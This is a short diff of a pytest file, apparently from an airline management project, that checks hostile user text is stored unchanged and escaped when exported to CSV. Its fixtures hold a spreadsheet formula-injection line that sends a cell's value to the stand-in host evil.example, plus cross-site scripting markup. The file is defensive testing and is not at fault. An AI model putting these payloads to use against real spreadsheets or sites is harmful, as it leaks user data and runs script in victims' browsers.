@@ -13,8 +13,8 @@ import pytest
 from tests.support.api import Api, open_route
 from tests.support.running import PASSWORD, Running
 from tests.support.small_airline import SmallAirline, small_airline
+from vamgr.areas import load_areas
 from vamgr.kernel.times import iso
-from vamgr.runtime import load_areas
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
 MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
@@ -52,7 +52,7 @@ async def test_hostile_text_is_kept_as_it_is_and_exported_without_running(airlin
     seen = ""
     for area in load_areas():
         for endpoint in area.endpoints:
-            if endpoint.csv and "{" not in endpoint.path:
+            if endpoint.csv and "{" not in endpoint.path and endpoint.of_platform == "no":
                 seen += await _read_as_a_spreadsheet(airline, endpoint.path)
     assert "'=HYPERLINK" in seen
     assert "'@SUM" in seen
